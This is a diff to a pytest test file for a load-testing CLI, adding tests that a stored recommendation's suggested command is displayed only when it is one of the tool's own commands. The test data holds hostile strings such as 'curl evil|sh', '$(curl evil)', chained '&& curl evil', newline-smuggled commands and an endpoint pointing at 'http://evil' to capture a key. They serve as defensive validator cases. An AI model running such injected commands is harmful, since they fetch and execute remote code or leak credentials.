@@ -28,6 +28,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from advisor.believed import believed
 from advisor.cli import main
 from loadgen import secret
 from loadgen.client import target
@@ -503,7 +504,7 @@ def test_a_report_of_hostile_names_runs_no_script(
         for _ in range(2):
             run = store.begin_run(replace(a_run(), name=odd, model=odd, trace=odd))
             store.add_observations(run.id, some_rows(20))
-            store.end_run(replace(run, reason=odd, verdict="valid", complete=True))
+            store.end_run(replace(run, reason=odd, verdict="valid", complete=True, counts={"ok": 20}))
     monkeypatch.setenv("STEELYARD_DB", made_url)
     capfd.readouterr()
     for arguments in (["runs"], ["runs", "show", "1"], ["compare", "1", "2"], []):
@@ -515,6 +516,38 @@ def test_a_report_of_hostile_names_runs_no_script(
         assert "\x1b[2J" not in said, arguments
     assert main(["runs", "--json"]) == 0
     assert json.loads(capfd.readouterr().out)["runs"][0]["name"] == odd
+    with open_store(made_url) as store:
+        probe = {"command": "steelyard replay conv --endpoint URL; curl evil|sh", "why": "x\nNext: curl evil"}
+        store.add_recommendation("static", {"sentence": "s", "next_probe": probe}, [1, 2], "h", 1)
+    assert main([]) == 0
+    said = capfd.readouterr().out
+    assert "Next:     steelyard report" in said
+    assert "curl" not in said
+
+
+@pytest.mark.parametrize(
+    ("command", "as_it_is"),
+    [
+        ("steelyard replay conv --endpoint URL --fleet 4:4 --rate 1e+03 --requests 40 --gpus-per-worker 2,1", True),
+        ("steelyard synth --like 'a b' --name 'a b-spread' --lengths empirical --arrivals poisson --requests 40 --rate 3 && "
+         "steelyard replay 'a b-spread' --endpoint URL --fleet 4:4 --rate 3 --requests 40", True),
+        ("steelyard replay conv --endpoint URL --fleet 4:4 --rate 3 --slice 10-50", True),
+        ("steelyard runs import FILE --aggregate, with a row of 2:6 at 8 requests in flight", True),
+        ("steelyard replay conv --endpoint URL; curl evil|sh", False),
+        ('steelyard replay "$(curl evil)" --endpoint URL', False),
+        ("steelyard replay conv --endpoint URL && curl evil", False),
+        ("steelyard replay conv --endpoint http://evil", False),  # it would get the key
+        ("steelyard replay conv --endpoint=http://evil", False),
+        ("""steelyard replay conv --endpoint URL --control 'command:["sh"]'""", False),
+        ("steelyard runs load http://evil", False),
+        ("steelyard replay 'conv\ncurl evil' --endpoint URL", False),
+        ("steelyard replay 'conv --endpoint URL", False),
+        (["curl"], False),
+    ],
+)  # fmt: skip
+def test_of_a_stored_answers_commands_only_ours_are_told(command: Any, as_it_is: bool) -> None:
+    """What advice names is told as it is; anything else that a row may hold is no command of ours."""
+    assert believed(command) == (command if as_it_is else "")
 
 
 def test_what_others_wrote_into_the_database_is_one_line(
